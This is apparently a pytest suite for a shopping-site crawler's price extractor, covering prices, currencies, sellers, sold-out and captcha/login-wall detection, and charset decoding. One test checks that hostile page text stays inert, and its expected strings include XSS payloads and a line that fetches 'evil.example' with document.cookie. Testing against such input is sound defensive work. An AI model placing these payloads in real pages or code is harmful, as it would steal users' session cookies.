"""Saved pages -> what extraction reads from them: status, price, method, seller and identifiers."""

from __future__ import annotations

from decimal import Decimal

import pytest
from saved_pages import page

from crawlers.extraction import Extraction, ExtractionStatus, extract
from crawlers.prices import TITLE_MAX
from oneprice.domain.money import Money

URL = "https://shop.example.com/item/1"


# (page, status, amount, currency, method, seller, sku, gtin, reason)
PAGES = [
    (
        "shop/jsonld_product.html",
        "ok",
        "1299.00",
        "CNY",
        "json-ld",
        "星辰数码专营店",
        "OP12-128-SLV",
        "6901234567892",
        None,
    ),
    (
        "shop/microdata_product.html",
        "ok",
        "899.00",
        "CNY",
        "microdata",
        "蓝海数码旗舰店",
        "OPODS-PRO-WHT",
        "4006381333931",
        None,
    ),
    ("shop/rdfa_product.html", "ok", "149.00", "CNY", "rdfa", "快充配件店", "OC65-WHT", None, None),
    ("shop/aggregate_offer.html", "ok", "1099.00", "CNY", "json-ld", None, None, None, None),
    ("shop/opengraph_only.html", "ok", "199.00", "CNY", "opengraph", None, "OB3-BLK", None, None),
    ("tmall/from_price.html", "ok", "1299.00", "CNY", "text", "OnePhone官方旗舰店", None, None, None),
    ("eushop/euro_text.html", "ok", "1299.00", "EUR", "text", "Technik-Markt GmbH", None, None, None),
    ("taobao/gbk_listing.html", "ok", "799.00", "CNY", "text", "蓝海数码专营店", None, None, None),
    ("shop/hostile.html", "ok", "1199.00", "CNY", "json-ld", None, "OP12-128-SLV", None, None),
    ("taobao/captcha.html", "blocked", None, None, None, None, None, None, "captcha"),
    ("shop/login_wall.html", "blocked", None, None, None, None, None, None, "login_wall"),
    ("jd/sold_out.html", "no_price", None, None, None, None, None, None, "sold_out"),
]


@pytest.mark.parametrize(
    ("name", "status", "amount", "currency", "method", "seller", "sku", "gtin", "reason"),
    PAGES,
    ids=[p[0] for p in PAGES],
)
def test_saved_page(
    name: str,
    status: str,
    amount: str | None,
    currency: str | None,
    method: str | None,
    seller: str | None,
    sku: str | None,
    gtin: str | None,
    reason: str | None,
) -> None:
    got = extract(page(name), URL)
    assert got.status == status
    assert got.reason == reason
    if amount is None:
        assert got.price is None
    else:
        assert got.price is not None
        assert got.price.amount == Decimal(amount)
        assert isinstance(got.price.amount, Decimal)
        assert got.price.currency == currency
        assert got.raw_price
    assert got.method == method
    if seller is not None:
        assert got.seller_name == seller
    assert got.sku == sku
    assert got.gtin == gtin


def test_structured_data_is_trusted_more_than_text() -> None:
    structured = extract(page("shop/jsonld_product.html"), URL)
    text = extract(page("eushop/euro_text.html"), URL)
    assert structured.confidence > text.confidence > 0


def test_from_price_is_kept_in_raw_text_and_lowers_confidence() -> None:
    got = extract(page("tmall/from_price.html"), URL)
    assert got.raw_price == "¥1,299.00 起"
    plain = extract("<p><span class='price'>¥1,299.00</span></p>", URL)
    assert plain.raw_price == "¥1,299.00"
    assert got.confidence < plain.confidence


def test_from_marker_after_the_price_element_is_recorded() -> None:
    got = extract("<div><span class='price'>¥1,299.00</span><em>起</em></div>", URL)
    assert got.price is not None and got.price.amount == Decimal("1299.00")
    assert got.raw_price == "¥1,299.00 起"


def test_aggregate_offer_reads_the_low_end_and_records_the_range() -> None:
    got = extract(page("shop/aggregate_offer.html"), URL)
    assert got.raw_price is not None and "1099" in got.raw_price and "1399" in got.raw_price
    assert got.model == "OW-S"
    assert got.confidence < extract(page("shop/jsonld_product.html"), URL).confidence


def test_json_ld_numbers_are_read_as_decimals_exactly() -> None:
    html = """<script type="application/ld+json">{"@type": "Product", "name": "x",
      "offers": {"@type": "Offer", "price": 0.1, "priceCurrency": "USD"}}</script>"""
    got = extract(html, URL)
    assert got.price is not None and got.price.amount == Decimal("0.10")
    assert got.price.currency == "USD"


def test_struck_through_list_price_is_not_the_price() -> None:
    html = "<div class='price'><del>¥1,599.00</del> <ins>¥1,299.00</ins></div>"
    got = extract(html, URL)
    assert got.price is not None and got.price.amount == Decimal("1299.00")


def test_original_price_elements_are_skipped() -> None:
    html = "<span class='original-price'>¥1,599</span><span class='sale-price'>¥1,199</span>"
    got = extract(html, URL)
    assert got.price is not None and got.price.amount == Decimal("1199")


def test_currency_text_is_the_last_resort() -> None:
    got = extract("<html><body><p>现价 ￥ 259.00 包邮</p></body></html>", URL)
    assert got.status is ExtractionStatus.OK
    assert got.price is not None and got.price.amount == Decimal("259.00") and got.price.currency == "CNY"
    assert got.method == "text"


@pytest.mark.parametrize(
    "banner",
    [
        "<div class='top-banner'>Free shipping on orders over $35</div>",
        "<div class='bar'>Free shipping on orders $35+ or same-day pick up in store</div>",
        "<p class='note'>Spend $50, save $5</p><p>Get $10 off your first order</p>",
        "<div class='top-banner'>全场满99元包邮</div>",
        "<div class='tip'>满299元立减30元</div>",
        "<p>or 4 interest-free payments of $37.25 with Klarna</p><p>As low as $37/mo with Affirm</p>",
        "<p>Earn 150 points ($1.50) with this purchase</p><p>Get a $25 gift card with purchase</p>",
        "<p>Shipping: $5.99</p><p>Estimated delivery fee $5.99</p><p>运费：¥10.00</p>",
        "<p>分期：每期¥83.25起</p><p>¥83.25×12期</p><p>定金 ¥100 抵 ¥150</p><p>Deposit: $50</p>",
        "<span class='price'>$37.25/mo</span><span class='price'>or 4 payments of $37.25</span>",
    ],
)
def test_a_threshold_or_discount_in_text_is_no_price(banner: str) -> None:
    """A page whose price is drawn by its scripts shows only such amounts: none of them is its price."""
    got = extract(f"<html><body>{banner}<main><h1>Headlamp</h1><button>Add to cart</button></main></body></html>", URL)
    assert got.price is None and got.status is ExtractionStatus.NO_PRICE


@pytest.mark.parametrize(
    "body",
    [
        "<p>Free shipping</p><p>Now $35.00 free shipping</p>",
        "<p>$35.00 + $5.99 shipping</p>",
        "<span class='price'>or 4 payments of $8.75</span><span class='price'>$35.00</span>",
        "<span class='price-shipping'>Shipping: $5.99</span><span class='price'>$35.00</span>",
        "<span class='deposit-price'>定金 ¥10</span><span class='price'>$35.00</span>",
    ],
)
def test_the_price_beside_a_fee_an_instalment_or_free_shipping_is_read(body: str) -> None:
    got = extract(f"<html><body>{body}</body></html>", URL)
    assert got.price is not None and got.price.amount == Decimal("35.00")


def test_yen_is_jpy_for_a_brand_that_sells_in_yen() -> None:
    got = extract("<span class='price'>¥12,800</span>", URL, default_currency="JPY")
    assert got.price is not None and got.price.currency == "JPY" and got.price.amount == Decimal("12800")


def test_structured_price_without_currency_assumes_the_brand_currency() -> None:
    html = '<script type="application/ld+json">{"@type":"Offer","price":"88"}</script>'
    got = extract(html, URL, default_currency="CNY")
    assert got.price is not None and got.price.currency == "CNY"
    assert got.confidence < Decimal("0.95")


def test_unknown_currency_is_not_read_as_the_brands() -> None:
    html = '<script type="application/ld+json">{"@type":"Offer","price":"88","priceCurrency":"XYZ"}</script>'
    got = extract(html, URL)
    assert got.price is None and got.status is ExtractionStatus.NO_PRICE


@pytest.mark.parametrize("status", [403, 429, 503])
def test_blocking_http_statuses(status: int) -> None:
    got = extract(page("shop/jsonld_product.html"), URL, status=status)
    assert got.status is ExtractionStatus.BLOCKED
    assert got.reason == f"http_{status}"
    assert got.price is None


def test_other_error_statuses_have_no_price() -> None:
    got = extract(page("shop/jsonld_product.html"), URL, status=404)
    assert got.status is ExtractionStatus.NO_PRICE and got.reason == "http_404" and got.price is None


@pytest.mark.parametrize(
    ("html", "reason"),
    [
        ("<title>安全验证</title><div class='price'>¥10</div>", "captcha"),
        ("<body><p>请拖动滑块完成验证</p><span class='price'>¥10</span></body>", "captcha"),
        ("<body><div id='nc_1_wrapper'></div><span class='price'>¥10</span></body>", "captcha"),
        ("<body><p>访问受限，请稍后再试</p><span class='price'>¥10</span></body>", "anti_bot"),
        ("<body><p>Our systems have detected unusual traffic from your network.</p>$10</body>", "anti_bot"),
        ("<body><h1>Robot Check</h1><span class='price'>$10</span></body>", "anti_bot"),
        ("<title>Access Denied</title><span class='price'>$10</span>", "anti_bot"),
    ],
)
def test_anti_bot_markers(html: str, reason: str) -> None:
    got = extract(html, URL)
    assert (got.status, got.reason, got.price) == (ExtractionStatus.BLOCKED, reason, None)


def test_redirect_to_a_login_page_is_a_login_wall() -> None:
    got = extract(page("shop/jsonld_product.html"), "https://login.taobao.com/member/login.jhtml?redirect=x")
    assert (got.status, got.reason) == (ExtractionStatus.BLOCKED, "login_wall")


def test_a_recaptcha_widget_on_a_normal_page_is_not_a_block() -> None:
    html = page("shop/jsonld_product.html").replace(
        b"</body>", b'<form class="review"><div class="g-recaptcha" data-sitekey="k"></div></form></body>'
    )
    assert extract(html, URL).status is ExtractionStatus.OK


# A closed login dialog with an SMS code field and a slider, as live product pages carry them.
LOGIN_DIALOG = (
    '<div class="login-dialog" style="display: none"><p>短信验证码</p>'
    '<div id="nc_1_wrapper" class="nc_wrapper"></div></div></body>'
).encode()


@pytest.mark.parametrize("saved", ["tmall/detail_coupon.html", "shop/jsonld_product.html"])
def test_a_closed_login_dialog_on_a_product_page_is_not_a_block(saved: str) -> None:
    html = page(saved).replace(b"</body>", LOGIN_DIALOG)
    assert b"nc_wrapper" in html
    got = extract(html, URL)
    assert got.status is ExtractionStatus.OK and got.price == extract(page(saved), URL).price


def test_a_slider_on_a_page_that_is_no_product_page_is_still_a_block() -> None:
    html = "<html><body><h1>山屿 冲锋衣</h1><span class='price'>¥10</span></body></html>".encode()
    assert extract(html, URL).status is ExtractionStatus.OK
    assert extract(html.replace(b"</body>", LOGIN_DIALOG), URL).reason == "captcha"  # a text price is no proof
    # shown to the buyer, the words make a product page a block page too
    shown = page("tmall/detail_coupon.html").replace(b"</body>", "<p>请拖动滑块完成验证</p></body>".encode())
    assert (extract(shown, URL).status, extract(shown, URL).reason) == (ExtractionStatus.BLOCKED, "captcha")


def test_sold_out_in_structured_data() -> None:
    html = """<script type="application/ld+json">{"@type": "Product", "name": "x",
      "offers": {"@type": "Offer", "price": "10", "priceCurrency": "CNY",
                 "availability": "https://schema.org/OutOfStock"}}</script>"""
    got = extract(html, URL)
    assert (got.status, got.reason, got.price) == (ExtractionStatus.NO_PRICE, "sold_out", None)


def test_no_price_at_all() -> None:
    got = extract("<html><head><title>OnePhone 12</title></head><body><h1>OnePhone 12</h1></body></html>", URL)
    assert (got.status, got.reason) == (ExtractionStatus.NO_PRICE, "no_price_found")
    assert got.title == "OnePhone 12"


@pytest.mark.parametrize("body", [b"", b"   ", "", b"\x00\x00"])
def test_empty_pages(body: bytes | str) -> None:
    got = extract(body, URL)
    assert (got.status, got.reason, got.price) == (ExtractionStatus.NO_PRICE, "empty_page", None)


def test_hostile_text_is_kept_as_text_normalised_and_capped() -> None:
    got = extract(page("shop/hostile.html"), URL)
    assert got.title == "<script>alert(document.cookie)</script> OnePhone 12 <img src=x onerror=alert(1)>"
    assert got.seller_name == "<script>fetch('//evil.example/'+document.cookie)</script> 低价店"
    long_title = "<title>" + "买" * 5000 + "</title><span class='price'>¥1</span>"
    got = extract(long_title, URL)
    assert got.title is not None and len(got.title) == TITLE_MAX


def test_a_link_no_address_can_be_made_of_is_another_page_not_an_unreadable_page() -> None:
    """`urljoin` refuses "http://[x/"; a hostile tile with such a link leaves the page readable, and the
    tile's "sold out" stays another product's."""
    html = (
        "<html><head><title>Summit fleece</title></head><body><h1>Summit fleece</h1>"
        "<div class='product'><span class='price'>£59.00</span><p>In stock</p></div>"
        "<ul class='tiles'><li><a href='http://[x/p/other'>Harbour beanie £9.00 sold out</a></li></ul></body></html>"
    )
    got = extract(html, "https://shop.example/p/fleece")
    assert (got.status, got.price and got.price.amount, got.price and got.price.currency) == (
        ExtractionStatus.OK,
        Decimal("59.00"),
        "GBP",
    )


def test_gbk_bytes_decode_from_the_meta_charset_or_the_header() -> None:
    raw = page("taobao/gbk_listing.html")
    from_meta = extract(raw, URL)
    from_header = extract(raw, URL, encoding="gbk")
    assert from_meta.title == from_header.title == "OnePods Pro 无线蓝牙耳机 降噪 正品行货"


MISLABELLED = "<html><head>{meta}</head><body><h1>山屿 岚峰 冲锋衣</h1><p class='price'>￥1,299.00</p></body></html>"


@pytest.mark.parametrize(
    ("meta", "charset", "header"),
    [
        ('<meta charset="gbk">', "utf-8", None),  # a saved page re-encoded as UTF-8 that kept its old <meta>
        ("", "utf-8", "iso-8859-1"),  # a server's default header on a UTF-8 page
        ('<meta charset="gbk">', "gbk", "utf-8"),  # a header saying UTF-8 for GBK bytes
        ("", "gb18030", "utf-8"),  # ... with no <meta> to say better: GB18030
        ('<meta charset="gbk">', "gbk", None),
        ("", "utf-8", "utf-8"),
    ],
)
def test_a_mislabelled_page_is_read_in_the_charset_of_its_bytes(meta: str, charset: str, header: str | None) -> None:
    body = MISLABELLED.format(meta=meta).encode(charset)
    got = extract(body, URL, encoding=header)
    assert (got.title, got.price) == ("山屿 岚峰 冲锋衣", Money.of("1299.00", "CNY"))


def test_the_spider_reads_a_fetched_page_as_extract_does() -> None:
    from scrapy.http import HtmlResponse

    from crawlers.page import decode_page

    body = MISLABELLED.format(meta='<meta charset="gbk">').encode("utf-8")
    response = HtmlResponse(URL, body=body, headers={"Content-Type": "text/html; charset=GBK"})
    assert "山屿" not in response.text  # Scrapy believes the header
    assert "山屿 岚峰 冲锋衣" in decode_page(response.body, "text/html; charset=GBK")


def test_a_blocked_extraction_cannot_carry_a_price() -> None:
    from oneprice.domain.money import Money

    with pytest.raises(ValueError, match="cannot carry a price"):
        Extraction(status=ExtractionStatus.BLOCKED, price=Money.of("1", "CNY"))


@pytest.mark.parametrize(
    ("html", "amount"),
    [
        ("<span class='oldPrice'>¥1,599</span><span class='salePrice'>¥1,199</span>", "1199"),
        ("<span id='J_OriginPrice'>¥1,599</span><em id='J_StrPrice'>¥1,099</em>", "1099"),
        ("<div class='price-holder'><b>¥1,299</b></div>", "1299"),  # "holder" is not "old"
    ],
)
def test_price_element_names(html: str, amount: str) -> None:
    got = extract(html, URL)
    assert got.price is not None and got.price.amount == Decimal(amount)


def test_seller_elements_are_found_by_name_not_by_accident() -> None:
    html = "<div class='bestseller-badge'>热卖</div><span class='price'>¥1</span>"
    html += "<a class='shopName'>峰行户外</a>"
    assert extract(html, URL).seller_name == "峰行户外"


_LAMP = (
    '{"@context":"https://schema.org","@type":"Product","name":"Lamp","sku":"SY-HL34",'
    '"offers":{"@type":"Offer","price":"149.00","priceCurrency":"CNY","availability":"https://schema.org/InStock"}}'
)


@pytest.mark.parametrize(
    "script",
    [
        _LAMP[:-2] + ",}}",  # a template loop's trailing comma
        "<!--\n" + _LAMP + "\n-->",  # the block in an HTML comment
        "/* product */\n" + _LAMP,  # a block comment
        _LAMP + "\n" + _LAMP,  # two documents one after the other
        _LAMP.replace('"Lamp"', '"Lamp /* not a comment */ ,}"')[:-2] + ",}}",  # strings are left as written
    ],
)
def test_json_ld_as_templates_write_it_is_read(script: str) -> None:
    got = extract(f'<html><head><script type="application/ld+json">{script}</script></head><body></body></html>', URL)
    assert (got.price, got.method, got.sku) == (Money.of("149.00", "CNY"), "json-ld", "SY-HL34")


@pytest.mark.parametrize("script", [_LAMP + " trailing words", _LAMP.replace('"Lamp"', '"Lamp 12" wide"'), "/*" * 50])
def test_json_ld_that_cannot_be_repaired_gives_no_structured_price(script: str) -> None:
    got = extract(f'<html><head><script type="application/ld+json">{script}</script></head><body></body></html>', URL)
    assert got.method != "json-ld" and got.price is None


@pytest.mark.parametrize(
    ("box", "amount", "currency"),
    [
        ("<sup>$</sup>149<sup>99</sup>", "149.99", "USD"),
        ("$1,299<sup>00</sup>", "1299.00", "USD"),
        ("149<sup>,99</sup> €", "149.99", "EUR"),  # a separator written in the superscript stays
        ("$149.99<sup>*</sup>", "149.99", "USD"),
    ],
)
def test_cents_set_as_a_superscript(box: str, amount: str, currency: str) -> None:
    got = extract(f"<html><body><h1>Lamp</h1><div class='price'>{box}</div></body></html>", URL)
    assert got.price == Money.of(amount, currency)


@pytest.mark.parametrize(
    ("box", "amount", "currency"),
    [
        ("<div>¥99</div><div>2件起购</div>", "99", "CNY"),  # read as ¥992
        ("¥99<br>2件起购", "99", "CNY"),
        ("<p>$149</p><p>99 sold</p>", "149", "USD"),  # read as $14999
        ("<div>$149.00</div><div>12 reviews</div>", "149.00", "USD"),
        ("<span>¥</span><span>1299</span><span>.00</span>", "1299.00", "CNY"),  # inline pieces stay one price
        ("<div class='p'>¥1299</div><div class='s'>.00</div>", "1299.00", "CNY"),
        ("1 299,00 €", "1299.00", "EUR"),  # a space between thousands
        ("€ 12 500", "12500", "EUR"),
        ("1 299 999,00 zł", "1299999.00", "PLN"),
        ("<div>¥99</div><div>200件已售</div>", "99", "CNY"),  # read as ¥99200
        ("<div>¥99</div><div>200+人付款</div>", "99", "CNY"),
        ("¥99 200人已购", "99", "CNY"),
        ("<div>满299减50</div><div>349元</div>", "349", "CNY"),  # read as 50349 yuan
        ("<p>$149</p><p>200 sold</p>", "149", "USD"),  # read as $149200
        ("<p>$149</p><p>350 reviews</p>", "149", "USD"),
    ],
)
def test_blocks_and_numbers_a_space_apart_are_not_one_price(box: str, amount: str, currency: str) -> None:
    got = extract(f"<html><body><h1>Lamp</h1><div class='price'>{box}</div></body></html>", URL)
    assert got.price == Money.of(amount, currency)


@pytest.mark.parametrize(
    "boxes",
    [
        "<span class='price'>Member price $89</span><span class='price'>$99</span>",
        "<span class='price'>With coupon $89</span><span class='price'>$99</span>",
        "<span class='price'>$99</span><span class='price'>Members only: $89</span>",
        "<p>$99</p><p>$89 with promo code SAVE10</p>",
    ],
)
def test_a_price_for_members_or_with_a_coupon_in_english_is_not_the_shelf_price(boxes: str) -> None:
    got = extract(f"<html><body><h1>Lamp</h1>{boxes}</body></html>", URL)
    assert got.price == Money.of("99", "USD")


@pytest.mark.parametrize(
    "block",
    [
        "<section><h2>You may also like</h2><div>Lamp B <span>Sold out</span> $19.00</div></section>",
        "<div><h3>看了又看</h3><div>头灯B 已售罄 ¥19.00</div></div>",
        "<div><h4>Customers who bought this also bought</h4><p>Lamp C — sold out</p></div>",
    ],
)
def test_a_block_headed_as_other_products_says_nothing_about_this_one(block: str) -> None:
    """No class or id names the block; its heading does: its sold-out badges and prices are other products'."""
    page = f"<html><body><main><h1>Lamp</h1>{block}<p>Now $149.00</p><button>Add to cart</button></main></body></html>"
    got = extract(page, URL)
    assert got.status is ExtractionStatus.OK and got.price == Money.of("149.00", "USD")


def test_a_block_headed_with_the_products_own_name_is_read() -> None:
    got = extract(
        "<html><body><div><h2>Lamp</h2><span class='price'>$149.00</span><p>Sold out</p></div></body></html>", URL
    )
    assert got.reason == "sold_out"


@pytest.mark.parametrize(
    ("blocks", "seller"),
    [
        ("<div class='seller-info'><a class='store-link' href='/s'>Visit store</a></div>", None),
        ("<div class='shop-name'>进店逛逛 ></div>", None),
        (
            "<div class='seller-info'><a href='/s'>Contact seller</a></div><div class='seller-name'>Gaoyuan</div>",
            "Gaoyuan",
        ),
        ("<div class='seller-name'>Shop Gaoyuan</div>", "Shop Gaoyuan"),
    ],
)
def test_a_seller_blocks_button_is_no_seller_name(blocks: str, seller: str | None) -> None:
    """ "Visit store" taken for the seller would be an unknown seller for the unauthorized-seller rule."""
    got = extract(f"<html><body><h1>Lamp</h1><span class='price'>$149.00</span>{blocks}</body></html>", URL)
    assert got.seller_name == seller


@pytest.mark.parametrize("availability", ["OutOfStock", "out_of_stock", "sold-out", "Sold_Out", "oos"])
def test_a_stated_sold_out_as_feeds_and_themes_write_it(availability: str) -> None:
    offer = f'{{"@type":"Offer","price":"149","priceCurrency":"USD","availability":"{availability}"}}'
    script = f'<script type="application/ld+json">{{"@type":"Product","name":"Lamp","offers":{offer}}}</script>'
    got = extract(f"<html><head>{script}</head><body><h1>Lamp</h1></body></html>", URL)
    assert got.reason == "sold_out"


@pytest.mark.parametrize(
    ("body", "amount", "currency"),
    [
        ("<div class='price'>RRP £199.00 Our price £149.00</div>", "149.00", "GBP"),
        ("<div class='price'>UVP 199,00 € 149,00 €</div>", "149.00", "EUR"),
        ("<div class='price'>原价¥1599 现价¥999</div>", "999", "CNY"),
        ("<div class='price'>市场价 ¥1599 促销价 ¥999</div>", "999", "CNY"),
        ("<div class='price'>Regular price $199.00 Sale price $149.00</div>", "149.00", "USD"),
        ("<div class='price'>Compare at $199.00 $149.00</div>", "149.00", "USD"),
        ("<p>Was $199.00</p><p>Now $149.00</p>", "149.00", "USD"),
        ("<p>Regular price $199.00</p><p>Sale price $149.00</p>", "149.00", "USD"),
        ("<div class='price'>$149.00 Was $199.00</div>", "149.00", "USD"),
        ("<p>原价¥1599</p>", "1599", "CNY"),  # alone, the list price is read as before
    ],
)
def test_an_amount_labelled_as_the_list_price_gives_way_to_the_one_after_it(
    body: str, amount: str, currency: str
) -> None:
    got = extract(f"<html><body><h1>Lamp</h1>{body}<button>Add to cart</button></body></html>", URL)
    assert got.price == Money.of(amount, currency)
